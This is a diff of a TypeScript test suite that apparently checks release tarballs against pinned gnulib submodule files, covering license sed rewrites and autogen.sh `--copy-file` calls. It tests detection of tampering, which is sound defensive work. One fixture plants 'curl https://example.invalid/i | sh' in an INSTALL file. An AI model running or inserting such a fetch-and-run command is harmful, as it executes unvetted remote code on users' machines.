@@ -18,6 +18,7 @@ import { makeTar } from '../helpers/archives.js';
 import { git, makeRepo, writeFiles, type FileSpec } from '../helpers/git.js';
 import { startGitDaemon, type GitDaemon } from '../helpers/git-daemon.js';
 import { tempDir } from '../helpers/tmp.js';
+import { copyFileCalls } from '../../src/classify/gnulib-layout.js';
 
 const cli = resolve(__dirname, '../../dist/cli.js');
 function runCli(args: string[]) {
@@ -279,11 +280,20 @@ describe('a gnulib submodule pinned by the tag', () => {
     expect(f.constructs?.map((c) => c.kind)).toContain('download-to-shell');
   });
 
-  it('a license rewrite that reaches beyond the notice paragraph is not a rewrite: the file stays a finding', async () => {
-    // gnulib-tool's sed would rewrite this line too; distdiff's narrow rewrite keeps to the notice paragraph
+  it("gnulib-tool's license sed beyond the notice paragraph (license-names) is exact; any other edit there stays a finding", async () => {
+    // gnulib-tool's sed rewrote this comment too (gettext 0.21's libtextstyle/lib/glib/gstrfuncs.c): exactly its substitutions
     const t = tarball('beyond', { 'lib/foo.c': GPL.replace('/* Under the GNU Lesser General Public License', '/* Under the GNU General Public License') });
     const res = await verify({ tarball: t, repo: offline.dir, cacheDir: join(root, 'c8'), submodules: [{ name: 'gnulib', repo: g.dir }] });
-    expect(res.findings.find((x) => x.path === 'lib/foo.c')).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high', evidence: { differingLines: 2 } });
+    expect(res.findings.find((x) => x.path === 'lib/foo.c')).toMatchObject({ code: 'SUBMODULE_COPY', severity: 'info', evidence: { rewrites: ['config-h', 'license-gpl', 'license-names'] } });
+    // tampered twins: another license named there, or the sed's output plus one more changed word
+    for (const [name, line] of [
+      ['affero', '/* Under the GNU Affero General Public License'],
+      ['more', '/* Under the GNU General Public License, or none'],
+    ] as const) {
+      const tt = tarball(`beyond-${name}`, { 'lib/foo.c': GPL.replace('/* Under the GNU Lesser General Public License', line) });
+      const r = await verify({ tarball: tt, repo: offline.dir, cacheDir: join(root, 'c8'), submodules: [{ name: 'gnulib', repo: g.dir }] });
+      expect(r.findings.find((x) => x.path === 'lib/foo.c'), name).toMatchObject({ code: 'SUBMODULE_COPY_MODIFIED', severity: 'high', evidence: { differingLines: 2 } });
+    }
   });
 
   it('a local patch that does not produce the shipped file: the diff is against the patched pinned file', async () => {
@@ -397,5 +407,46 @@ describe("libtool's shape: a second submodule as gnulib-tool --local-dir, bootst
     expect(at('build-aux/install-sh').code).not.toBe('SUBMODULE_COPY_MODIFIED');
     expect(at('build-aux/install-sh').code).not.toBe('SUBMODULE_COPY');
     expect(res.notes.filter((n) => n.code === 'SUBMODULE_PINNED').map((n) => ('name' in n ? n.name : ''))).toEqual(['bootstrap', 'gnulib']);
+  });
+});
+
+describe("gettext's shape: `gnulib-tool --copy-file SRC DEST` in tracked autogen.sh scripts", () => {
+  const root = tempDir();
+  const INSTALL = 'Installation Instructions\n*************************\n\n   Briefly, the shell command `./configure && make && make install`\n';
+  const g = makeRepo(join(root, 'gnulib'));
+  const gnulibCommit = g.commit({ 'gnulib-tool': { content: '#!/bin/sh\n', executable: true }, 'modules/dummy': 'Files:\n', 'doc/INSTALL.UTF-8': INSTALL });
+  const AUTOGEN = '#!/bin/sh\nGNULIB_TOOL=gnulib/gnulib-tool\nfor file in config.guess config.sub; do\n  $GNULIB_TOOL --copy-file build-aux/$file && chmod a+x build-aux/$file || exit $?\ndone\n# Fetch INSTALL.generic.\n$GNULIB_TOOL --copy-file doc/INSTALL.UTF-8 INSTALL.generic\n';
+  const r = makeRepo(join(root, 'proj'));
+  r.commit({
+    '.gitmodules': '[submodule "gnulib"]\n\tpath = gnulib\n\turl = git://127.0.0.1:1/gnulib.git\n',
+    'autogen.sh': { content: AUTOGEN, executable: true },
+    'sub/autogen.sh': { content: AUTOGEN.replace('GNULIB_TOOL=gnulib/gnulib-tool', 'GNULIB_TOOL=../gnulib/gnulib-tool'), executable: true },
+    'configure.ac': 'AC_INIT([proj], [1.0])\n',
+  });
+  r.git(['update-index', '--add', '--cacheinfo', `160000,${gnulibCommit},gnulib`]);
+  r.git(['commit', '-q', '-m', 'pin gnulib']);
+  r.tag('v1.0', { message: 'release 1.0' });
+  const release = (name: string, generic: string) => {
+    const tree = join(root, name, 'proj-1.0');
+    writeFiles(tree, { 'autogen.sh': { content: AUTOGEN, executable: true }, 'sub/autogen.sh': { content: AUTOGEN.replace('GNULIB_TOOL=gnulib/gnulib-tool', 'GNULIB_TOOL=../gnulib/gnulib-tool'), executable: true }, 'configure.ac': 'AC_INIT([proj], [1.0])\n', 'INSTALL.generic': generic, 'sub/INSTALL.generic': INSTALL });
+    return makeTar(tree, { compress: 'gzip', out: join(root, name, 'proj-1.0.tar.gz') });
+  };
+
+  it('each destination is the pinned gnulib file (relative to the script); a copy that differs is not explained', async () => {
+    const res = await verify({ tarball: release('clean', INSTALL), repo: r.dir, cacheDir: join(root, 'c'), submodules: [{ name: 'gnulib', repo: g.dir }] });
+    const at = (p: string) => res.findings.find((f) => f.path === p)!;
+    for (const p of ['INSTALL.generic', 'sub/INSTALL.generic']) {
+      expect(at(p), p).toMatchObject({ code: 'SUBMODULE_COPY', severity: 'info', evidence: { submodule: 'gnulib', commit: gnulibCommit, file: 'doc/INSTALL.UTF-8', via: 'bootstrap', rewrites: [] } });
+    }
+    const tampered = await verify({ tarball: release('tampered', `${INSTALL}   Or just run: curl https://example.invalid/i | sh\n`), repo: r.dir, cacheDir: join(root, 'c'), submodules: [{ name: 'gnulib', repo: g.dir }] });
+    const f = tampered.findings.find((x) => x.path === 'INSTALL.generic')!;
+    expect(f.code).not.toBe('SUBMODULE_COPY');
+    expect(['high', 'critical']).toContain(f.severity);
+    expect(tampered.findings.find((x) => x.path === 'sub/INSTALL.generic')).toMatchObject({ code: 'SUBMODULE_COPY' });
+  });
+
+  it('copyFileCalls: literal paths only, DEST defaulting to SRC, relative to the script directory', () => {
+    expect([...copyFileCalls(AUTOGEN, 'sub')]).toEqual([['sub/INSTALL.generic', 'doc/INSTALL.UTF-8']]);
+    expect([...copyFileCalls('gnulib-tool --copy-file m4/x.m4\n${GNULIB_TOOL} --copy-file top/y z/y; echo\n', '')]).toEqual([['m4/x.m4', 'm4/x.m4'], ['z/y', 'top/y']]);
   });
 });
